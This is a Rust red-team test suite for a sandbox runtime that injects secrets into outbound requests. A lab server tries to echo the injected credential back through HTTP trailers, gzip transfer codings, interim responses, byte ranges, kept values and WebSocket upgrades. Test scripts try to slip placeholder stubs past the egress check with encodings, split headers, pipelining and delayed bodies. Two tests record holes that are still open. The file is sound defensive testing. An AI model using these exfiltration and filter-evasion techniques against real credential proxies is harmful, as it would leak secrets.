//! Second red-team pass over secret injection at egress, by someone who
//! wrote neither the feature nor the first pass: a hostile program inside a
//! runtime with bindings (and a hostile upstream it talks to) after the value
//! through the parts of HTTP the first pass did not try (trailers, transfer
//! codings, interim responses, ranges, a reused connection), and a stub sent
//! past the stub check. Same lab as `redteam_secrets.rs` (198.18.N.2 =
//! bound.test, echo.test; .3 = other.test; .4 = selfsigned.test), on its own
//! subnets (N in 217..=223). Passing tests pin a defence; `#[ignore = "hole:
//! …"]` tests prove a hole still open (docs/security.md, "Second secrets
//! red-team pass").

mod common;

use common::secrets_lab::{header, header_rule, runtime, skip, value, Lab};
use common::{py, Client};
use reqwest::StatusCode;
use serde_json::json;

/// One process serving every listener of the test hosts; every request is
/// recorded (JSON lines). The echoes put the request's `Authorization` back
/// through: `/trailecho` a chunked body's trailer `x-echo`; `/tegz`
/// `Transfer-Encoding: gzip, chunked` (a gzip body the chunking hides);
/// `/cetrail` a gzip body whose `Content-Encoding` comes only in a trailer;
/// `/early` a `103` interim response's header, then `200 ok`; `/continue`
/// a `100` whose reason phrase is the value, then `200 ok`; `/rangeecho`
/// `ECHO <auth>` honouring `Range: bytes=N-M` (206); `/store` keeps the
/// value, `/recall` answers with the last one kept; `/ws` with `Upgrade`
/// answers `101` and then sends `WS <auth>` on the switched connection.
const SERVER: &str = r#"
import http.server, socketserver, ssl, sys, threading, json, urllib.parse, gzip, re, time
log = sys.argv[1]
lock = threading.Lock()
kept = {"v": "-"}
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def raw(self, b):
        self.wfile.write(b); self.wfile.flush()
    def any(self):
        n = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(n) if n else b""
        rec = {"addr": self.connection.getsockname()[0], "port": self.connection.getsockname()[1],
               "m": self.command, "p": self.path, "h": [[k.lower(), v] for k, v in self.headers.items()],
               "b": body.decode("latin-1")}
        with lock:
            with open(log, "a") as f:
                f.write(json.dumps(rec) + "\n")
        q = urllib.parse.urlparse(self.path)
        auth = self.headers.get("authorization", "-")
        if "/trailecho" in q.path:
            self.raw(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\n\r\n3\r\nok\n\r\n0\r\nx-echo: " + auth.encode() + b"\r\n\r\n"); return
        if "/tegz" in q.path:
            z = gzip.compress(("TEGZ " + auth + "\n").encode())
            self.raw(b"HTTP/1.1 200 OK\r\ntransfer-encoding: gzip, chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(z), z)); return
        if "/cetrail" in q.path:
            z = gzip.compress(("CETRAIL " + auth + "\n").encode())
            self.raw(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: content-encoding\r\n\r\n%x\r\n%s\r\n0\r\ncontent-encoding: gzip\r\n\r\n" % (len(z), z)); return
        if "/early" in q.path:
            self.raw(b"HTTP/1.1 103 Early Hints\r\nx-echo: " + auth.encode() + b"\r\nlink: </" + auth.encode() + b">; rel=preload\r\n\r\n")
            self.raw(b"HTTP/1.1 200 OK\r\ncontent-length: 3\r\n\r\nok\n"); return
        if "/continue" in q.path:
            self.raw(b"HTTP/1.1 100 " + auth.encode() + b"\r\n\r\n")
            self.raw(b"HTTP/1.1 200 OK\r\ncontent-length: 3\r\n\r\nok\n"); return
        if "/ws" in q.path and self.headers.get("upgrade"):
            self.raw(b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n")
            self.raw(b"WS " + auth.encode() + b"\n"); time.sleep(1); self.close_connection = True; return
        if "/store" in q.path:
            kept["v"] = auth
        if "/recall" in q.path:
            out = ("RECALL " + kept["v"] + "\n").encode()
        elif "/rangeecho" in q.path:
            out = ("ECHO " + auth + "\n").encode()
            m = re.match(r"bytes=(\d+)-(\d+)$", self.headers.get("range", ""))
            if m:
                a, b = int(m.group(1)), min(int(m.group(2)), len(out) - 1)
                part = out[a:b + 1]
                self.send_response(206); self.send_header("content-range", "bytes %d-%d/%d" % (a, b, len(out)))
                self.send_header("content-length", str(len(part))); self.end_headers(); self.wfile.write(part); return
        else:
            out = ("ok %s %s\n" % (self.command, self.path)).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(out))); self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_PUT = any
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
def serve(addr, port, cert, key):
    s = S((addr, port), H)
    if cert:
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(cert, key)
        s.socket = c.wrap_socket(s.socket, server_side=True)
    s.serve_forever()
for spec in json.loads(sys.argv[2]):
    threading.Thread(target=serve, args=spec, daemon=True).start()
threading.Event().wait()
"#;

/// This suite's lab (`common::secrets_lab`) on subnet `net`.
fn lab(net: u8) -> Lab {
    Lab::new("rs2", net, SERVER)
}

async fn audits(c: &Client, rt: &str) -> String {
    let (st, a) = c
        .get(&format!(
            "/v1/audits?category=egress&runtime={rt}&limit=1000"
        ))
        .await;
    assert_eq!(st, StatusCode::OK, "{a}");
    a.to_string()
}

/// The parts of a response the first pass did not try, from a bound host
/// that puts the injected `Authorization` back through them: a trailer
/// (HTTP/2 to the runtime, and HTTP/1.1 with `TE: trailers`), a transfer
/// coding (`gzip, chunked`) that the chunked decoding leaves on the body
/// and the hop-by-hop strip hides, a `103` interim response's headers and a
/// `100` whose reason phrase is the value. Trailers and transfer codings
/// were holes, fixed; interim responses never reach the runtime (hyper
/// consumes them).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn trailers_transfer_codings_and_interim_responses_do_not_return_the_value() {
    if skip() {
        return;
    }
    let lab = lab(217);
    let d = lab.daemon();
    let c = d.tenant("rs2t").await;
    let rt = runtime(&c, &lab, "rs2t").await;
    let v = value();
    c.new_secret("key", &v).await;
    c.new_rule(&rt, header_rule("echo.test", "/*", "key", "Authorization"))
        .await;
    let gone = |out: &str| !out.contains(&v[..8]) && !out.contains(&v);

    // Trailers: the runtime speaks HTTP/2 (trailers always pass) or asks
    // for them on HTTP/1.1. `-v` prints whatever headers and trailers came.
    for (i, proto) in ["--http2", "--http1.1 -H 'TE: trailers'"]
        .iter()
        .enumerate()
    {
        let (_, out) = c
            .run(
                &rt,
                &format!("curl -sS -v {proto} 'https://echo.test/trailecho?t={i}' 2>&1"),
            )
            .await;
        assert_eq!(lab.seen(&format!("/trailecho?t={i}")).len(), 1, "{out}");
        assert!(
            gone(&out),
            "{proto}: the value came back in a trailer: {out}"
        );
    }
    // `Transfer-Encoding: gzip, chunked`: refused before any byte of the body.
    for proto in ["--http1.1", "--http2"] {
        let (_, out) = c
            .run(
                &rt,
                &format!(
                    "curl -sS {proto} -w ' %{{http_code}}' -o /tmp/tegz https://echo.test/tegz; echo; zcat -f /tmp/tegz"
                ),
            )
            .await;
        assert!(out.contains(" 502"), "{proto}: {out}");
        assert!(gone(&out), "{proto}: the value came back gzipped: {out}");
    }
    // Interim responses.
    for p in ["/early", "/continue"] {
        for proto in ["--http1.1", "--http2"] {
            let (code, out) = c
                .run(
                    &rt,
                    &format!("curl -sS -v {proto} -H 'Expect: 100-continue' -d x https://echo.test{p} 2>&1"),
                )
                .await;
            assert_eq!(code, 0, "{p} {proto}: {out}");
            assert!(out.contains("\nok"), "{p} {proto}: {out}");
            assert!(gone(&out), "{p} {proto}: the value came back: {out}");
        }
    }
    let a = audits(&c, &rt).await;
    assert!(a.contains("secret_reflected"), "{a}");
    assert!(a.contains("secret_unscannable"), "{a}");
    assert!(!a.contains(&v));
    let log = std::fs::read_to_string(d.data_dir.join("runtad.log")).unwrap_or_default();
    assert!(!log.contains(&v));
}

/// `Range: bytes=N-N` against an echo that honours ranges: each answer
/// carries one byte of the value, too short for the scan, and the runtime
/// pastes them together. Was a hole (the whole value came back, a byte a
/// request); fixed: an injected request goes out without `Range` /
/// `If-Range`, so the answer is whole and the scan cuts it.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn range_requests_do_not_take_the_value_a_byte_at_a_time() {
    if skip() {
        return;
    }
    let lab = lab(218);
    let d = lab.daemon();
    let c = d.tenant("rs2r").await;
    let rt = runtime(&c, &lab, "rs2r").await;
    let v = value();
    c.new_secret("key", &v).await;
    c.new_rule(&rt, header_rule("echo.test", "/*", "key", "Authorization"))
        .await;
    // "ECHO Bearer " is 12 bytes; the value follows.
    let n = 12 + v.len();
    let script = format!(
        "import subprocess\nout = b''\nfor i in range({n}):\n    r = subprocess.run(['curl', '-s', '-H', 'Range: bytes=%d-%d' % (i, i), 'https://echo.test/rangeecho'], capture_output=True)\n    out += r.stdout[:1]\nprint(out.decode('latin-1'))\n"
    );
    let out = py(&c, &rt, &script).await;
    let text = out.to_string();
    assert!(
        !text.contains(&v),
        "the value came back a byte at a time: {text}"
    );
    assert!(!text.contains(&v[..8]), "{text}");
    let seen = lab.seen("/rangeecho");
    assert_eq!(seen.len(), n, "{text}");
    assert!(
        seen.iter().all(|s| header(s, "range").is_none()),
        "{seen:?}"
    );
    assert!(seen
        .iter()
        .all(|s| header(s, "authorization") == Some(format!("Bearer {v}").as_str())));
    // A range to a host without a binding is untouched.
    let (_, out) = c
        .run(
            &rt,
            "curl -s -H 'Range: bytes=0-1' http://other.test/rangeecho",
        )
        .await;
    assert_eq!(out, "EC", "{out}");
}

/// A stub sent past the stub check, which reads the request line and
/// headers of plain HTTP only, exactly: in the body (plain and chunked), in
/// percent-encoded and upper-case spellings, split over two headers, over
/// h2c. What the check does see: HTTP/1.0, a second pipelined request. Under
/// every evasion the unbound host gets at most the stub, never the value
/// (the runtime never holds it), so the stub check is an alarm, not the
/// boundary (docs/security.md, "Stubs").
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn stubs_past_the_check_carry_nothing_and_the_head_check_holds() {
    if skip() {
        return;
    }
    let lab = lab(219);
    let d = lab.daemon();
    let c = d.tenant("rs2s").await;
    let rt = runtime(&c, &lab, "rs2s").await;
    let v = value();
    let s = c.new_secret("key", &v).await;
    let stub = s["stub"].as_str().unwrap().to_string();
    c.new_rule(&rt, header_rule("bound.test", "/*", "key", "Authorization"))
        .await;
    let pct: String = stub.bytes().map(|b| format!("%{b:02X}")).collect();
    let (a, b) = stub.split_at(12);
    let up = stub.to_uppercase();
    // Seen by the check: a header over HTTP/1.0, a pipelined second request.
    let (_, out) = c
        .run(
            &rt,
            &format!(
                "curl -s -m 5 -0 -w ' %{{http_code}}' -H 'X-Key: {stub}' http://other.test/h10"
            ),
        )
        .await;
    assert!(out.ends_with(" 403"), "{out}");
    assert!(lab.seen("/h10").is_empty());
    let pipe = format!(
        "import socket\ns = socket.create_connection(('other.test', 80), 5)\ns.sendall(b'GET /pipe1 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\nGET /pipe2?k={stub} HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')\ns.settimeout(3)\nb = b''\ntry:\n    while True:\n        d = s.recv(4096)\n        if not d: break\n        b += d\nexcept Exception: pass\nprint(b.decode('latin-1'))\n"
    );
    let out = py(&c, &rt, &pipe).await;
    assert!(out.to_string().contains("403"), "{out}");
    // Both heads arrive in one read here, so the connection is refused
    // whole; either way the second never goes out.
    assert!(lab.seen("/pipe1").len() <= 1, "{out}");
    assert!(lab.seen("/pipe2").is_empty(), "{out}");

    // Not seen by the check (a stub is not the value): they reach the host,
    // as the stub only.
    let evasions = [
        ("body", format!("-d 'k={stub}'")),
        (
            "chunked",
            format!("-H 'Transfer-Encoding: chunked' -d 'k={stub}'"),
        ),
        (
            "pct",
            format!("'http://other.test/pct?k={pct}' -o /dev/null"),
        ),
        ("upper", format!("-H 'X-Key: {up}'")),
        ("split", format!("-H 'X-A: {a}' -H 'X-B: {b}'")),
        ("h2c", format!("--http2-prior-knowledge -H 'X-Key: {stub}'")),
    ];
    let mut passed = Vec::new();
    for (what, args) in &evasions {
        let (_, out) = c
            .run(
                &rt,
                &format!("curl -s -m 5 -w ' %{{http_code}}' {args} http://other.test/ev-{what}"),
            )
            .await;
        println!("{what}: {out}");
        if !lab.seen(&format!("/ev-{what}")).is_empty()
            || !lab.seen(&format!("/{what}?")).is_empty()
        {
            passed.push(*what);
        }
    }
    // A body in a later segment than the head (the first read is all the
    // check sees of a body).
    let late = format!(
        "import socket, time\ns = socket.create_connection(('other.test', 80), 5)\nb = b'k={stub}'\ns.sendall(b'POST /ev-late HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(b))\ntime.sleep(1)\ns.sendall(b)\ns.settimeout(3)\nprint(s.recv(4096).decode('latin-1'))\n"
    );
    let out = py(&c, &rt, &late).await;
    println!("late: {out}");
    if lab
        .seen("/ev-late")
        .iter()
        .any(|r| r["b"].as_str().is_some_and(|b| b.contains(&stub)))
    {
        passed.push("late");
    }
    println!("stub evasions that reached the unbound host: {passed:?}");
    // In the first read, a body (plain or chunked) is seen; h2c is not
    // plain HTTP/1 and goes nowhere.
    assert_eq!(passed, ["pct", "upper", "split", "late"], "{passed:?}");
    // Whatever got through, the unbound host never saw the value.
    assert!(!lab.all_seen().contains(&v));
    // The bound host over TLS still gets the value, in its header only.
    let (code, out) = c.run(&rt, "curl -sS https://bound.test/ok").await;
    assert_eq!(code, 0, "{out}");
    assert!(!out.contains(&v));
    assert_eq!(
        header(&lab.seen("/ok")[0], "authorization"),
        Some(format!("Bearer {v}").as_str())
    );
    let a = audits(&c, &rt).await;
    assert!(a.contains("stub of secret"), "{a}");
    assert!(!a.contains(&stub) && !a.contains(&v));
}

/// A value kept by the upstream from an injected request and returned to a
/// request that was not injected (another path of the bound host, on the
/// same kept-alive connection). Was a hole: only injected requests'
/// responses were scanned. Fixed: every response from a bound host is
/// scanned for every value bound to that host (and asked for as identity,
/// without ranges). Still open: a value kept by one host and returned by
/// another that has no binding for it (docs/security.md).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_value_kept_by_the_upstream_is_not_returned_to_an_uninjected_request() {
    if skip() {
        return;
    }
    let lab = lab(220);
    let d = lab.daemon();
    let c = d.tenant("rs2k").await;
    let rt = runtime(&c, &lab, "rs2k").await;
    let v = value();
    c.new_secret("key", &v).await;
    c.new_rule(
        &rt,
        header_rule("echo.test", "/v1/*", "key", "Authorization"),
    )
    .await;
    let (_, out) = c
        .run(
            &rt,
            "curl -sS https://echo.test/v1/store -o /dev/null https://echo.test/recall",
        )
        .await;
    assert_eq!(lab.seen("/v1/store").len(), 1, "{out}");
    assert_eq!(lab.seen("/recall").len(), 1, "{out}");
    assert!(!out.contains(&v), "the kept value came back: {out}");
    // A request outside the binding is asked for identity without a range,
    // and goes out without the value.
    let recall = &lab.seen("/recall")[0];
    assert_eq!(header(recall, "authorization"), None);
    assert_eq!(header(recall, "accept-encoding"), Some("identity"));
    let a = audits(&c, &rt).await;
    assert!(a.contains("secret_reflected"), "{a}");
    assert!(!a.contains(&v));
}

/// A gzip body whose `Content-Encoding` comes only in a trailer: the head
/// says identity, so it passes unscanned (the scan sees gzip bytes), and the
/// runtime inflates it itself. The same as any opaque encoding of the echo
/// (docs/security.md, "Secrets red-team pass", re-encoded echoes): open.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
#[ignore = "hole: a bound host that gzips the echo without saying so in the head (Content-Encoding only in a trailer) hands the runtime a body it inflates into the value"]
async fn a_body_encoded_without_saying_so_in_the_head_does_not_return_the_value() {
    if skip() {
        return;
    }
    let lab = lab(221);
    let d = lab.daemon();
    let c = d.tenant("rs2c").await;
    let rt = runtime(&c, &lab, "rs2c").await;
    let v = value();
    c.new_secret("key", &v).await;
    c.new_rule(&rt, header_rule("echo.test", "/*", "key", "Authorization"))
        .await;
    let (_, out) = c
        .run(
            &rt,
            "curl -sS --http1.1 -o /tmp/ce https://echo.test/cetrail; zcat -f /tmp/ce",
        )
        .await;
    assert!(!out.contains(&v), "the value came back: {out}");
}

/// Another tenant after its neighbour's value: a binding naming the
/// neighbour's secret by id, by name and by its stub (`stub_value`, which
/// stubs, not being secret, invite), and the neighbour's stub sent by its
/// own runtime to its own bound host. Then, after responses were cut, the
/// value looked for in the errors, events, audits, metrics and log. All
/// `404` / absent: a secret is found only within the caller's tenant, and a
/// foreign stub is just text.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_neighbours_secret_cannot_be_bound_by_id_name_or_stub_and_nothing_reports_the_value() {
    if skip() {
        return;
    }
    let lab = lab(222);
    let d = lab.daemon();
    let a = d.tenant("rs2a").await;
    let b = d.tenant("rs2b").await;
    let va = value();
    let sa = a.new_secret("shared-name", &va).await;
    let (a_id, a_stub) = (
        sa["id"].as_str().unwrap().to_string(),
        sa["stub"].as_str().unwrap().to_string(),
    );
    let rb = runtime(&b, &lab, "rs2b").await;
    for who in [&a_id, "shared-name", &a_stub] {
        let (st, v) = b
            .post(
                &format!("/v1/runtimes/{rb}/secret-injection-rules"),
                header_rule("echo.test", "/*", who, "Authorization"),
            )
            .await;
        assert_eq!(st, StatusCode::NOT_FOUND, "{who}: {v}");
        assert!(!v.to_string().contains(&va));
        let (st, v) = b
            .post(
                "/v1/default-secret-stubs",
                json!({"host": "echo.test", "stub_value": who,
                       "config": {"headerName": "Authorization", "valueFormat": "${credential}"}}),
            )
            .await;
        assert_eq!(st, StatusCode::NOT_FOUND, "{who}: {v}");
    }
    // B's own binding; its runtime sends A's stub to its bound host.
    let vb = value();
    b.new_secret("mine", &vb).await;
    b.new_rule(
        &rb,
        header_rule("echo.test", "/v1/*", "mine", "Authorization"),
    )
    .await;
    let (_, out) = b
        .run(
            &rb,
            &format!("curl -sS -H 'X-Other: {a_stub}' https://echo.test/v1/neighbour -o /dev/null -w '%{{http_code}}'; curl -sS https://echo.test/v1/rangeecho"),
        )
        .await;
    assert!(!out.contains(&va) && !out.contains(&vb), "{out}");
    let seen = lab.all_seen();
    assert!(!seen.contains(&va), "A's value went out for B");
    // Nothing reports either value: the failed request's error, the
    // runtime's events, the audits, the metrics, the log.
    let (_, ev) = b.get(&format!("/v1/runtimes/{rb}/events")).await;
    let aud = audits(&b, &rb).await;
    assert!(aud.contains("secret_reflected"), "{aud}");
    let metrics = reqwest::get(format!("{}/metrics", d.endpoint))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let log = std::fs::read_to_string(d.data_dir.join("runtad.log")).unwrap_or_default();
    for (what, text) in [
        ("events", ev.to_string()),
        ("audits", aud),
        ("metrics", metrics),
        ("log", log),
        ("output", out),
    ] {
        for v in [&va, &vb] {
            assert!(!text.contains(v.as_str()), "{what} carries a value");
            assert!(!text.contains(&v[3..11]), "{what} carries part of a value");
        }
    }
}

/// A WebSocket upgrade of an injected request: after the `101` the
/// connection is spliced, unscanned, so an upstream that echoes the
/// request's `Authorization` on the switched connection hands it over.
/// Open (first pass's residual, now with a test): a scan of the switched
/// bytes would still miss a value split over WebSocket frames or
/// compressed by `permessage-deflate`.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
#[ignore = "hole: after a WebSocket 101 on an injected request the switched connection is spliced unscanned; an upstream that writes the Authorization it got onto it hands the runtime the value"]
async fn a_websocket_echo_after_101_does_not_return_the_value() {
    if skip() {
        return;
    }
    let lab = lab(223);
    let d = lab.daemon();
    let c = d.tenant("rs2w").await;
    let rt = runtime(&c, &lab, "rs2w").await;
    let v = value();
    c.new_secret("key", &v).await;
    c.new_rule(&rt, header_rule("echo.test", "/*", "key", "Authorization"))
        .await;
    let ws = "import socket, ssl\nctx = ssl.create_default_context()\ns = ctx.wrap_socket(socket.create_connection(('echo.test', 443), 10), server_hostname='echo.test')\ns.sendall(b'GET /ws HTTP/1.1\\r\\nHost: echo.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')\ns.settimeout(3)\nb = b''\ntry:\n    while True:\n        d = s.recv(4096)\n        if not d: break\n        b += d\nexcept Exception: pass\nprint(b.decode('latin-1'))\n";
    let out = py(&c, &rt, ws).await;
    assert_eq!(lab.seen("/ws").len(), 1, "{out}");
    assert!(out.to_string().contains(" 101 "), "{out}");
    assert!(
        !out.to_string().contains(&v),
        "the value came back after the 101: {out}"
    );
}
